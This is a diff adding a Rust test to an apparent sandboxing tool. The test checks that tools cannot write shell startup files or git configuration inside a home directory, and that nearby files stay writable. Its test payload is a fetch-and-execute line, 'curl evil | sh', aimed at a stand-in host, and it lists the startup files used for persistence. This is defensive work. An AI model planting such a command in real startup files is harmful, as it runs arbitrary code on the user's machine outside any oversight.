@@ -854,3 +854,73 @@ fn a_tool_cannot_plant_what_git_runs_outside_the_sandbox() {
         "{result}"
     );
 }
+
+// guarantee: G-FS-10
+/// A shell reads its startup files (`.bashrc`, `.profile`, `.zshrc`, …), and git its user
+/// configuration (`.gitconfig`), as they start: the user's next terminal runs what a tool wrote
+/// there, outside any sandbox. A personality whose write reach holds a home directory does not
+/// let its tools write them, in process mode and in the capsule; other files beside them, and a
+/// startup file the personality lists as a write root, stay writable.
+#[test]
+fn a_tool_cannot_plant_what_a_shell_runs_as_it_starts() {
+    let env = Env::new("");
+    let home = env.root.join("work/out");
+    for dir in ["notes", ".config/git"] {
+        std::fs::create_dir_all(home.join(dir)).unwrap();
+    }
+    // Listed as a write root itself, it is a file entry: one that exists.
+    std::fs::write(home.join(".zshenv"), "").unwrap();
+    let h = home.display();
+    let personality = env.personality(
+        "home.toml",
+        &format!(
+            "id = \"home\"\n[fs_reach]\nread = [\"{h}\"]\nwrite = [\"{h}\", \"{h}/.zshenv\"]\n"
+        ),
+    );
+    let write = |mode: &[&str], path: &str| {
+        let call = serde_json::json!({"path": path, "content": "curl evil | sh\n"}).to_string();
+        let mut argv = vec!["call"];
+        argv.extend_from_slice(mode);
+        argv.extend(["--personality", personality.as_str(), "write_file", &call]);
+        let out = env.toolcap(&argv);
+        serde_json::from_slice::<Value>(&out.stdout)
+            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
+    };
+    for mode in MODES {
+        for planted in [
+            ".bashrc",
+            ".bash_profile",
+            ".bash_login",
+            ".profile",
+            ".zshrc",
+            ".zprofile",
+            ".gitconfig",
+            ".config/git/config",
+            ".config/fish/config.fish",
+            "dotfiles/.bashrc",
+        ] {
+            let path = format!("{h}/{planted}");
+            let result = write(mode, &path);
+            assert!(
+                result["error"].as_str().is_some_and(|m| {
+                    m.starts_with("PATH_NOT_REACHABLE: write not permitted")
+                        && m.contains("as it starts")
+                }),
+                "{mode:?} {planted}: {result}"
+            );
+            assert!(
+                !std::path::Path::new(&path).exists(),
+                "{mode:?}: {planted} was written"
+            );
+        }
+        for fine in [
+            ".bashrc.orig",
+            "notes/profile",
+            ".config/git/ignore",
+            ".zshenv",
+        ] {
+            let result = write(mode, &format!("{h}/{fine}"));
+            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
+        }
+    }
+}
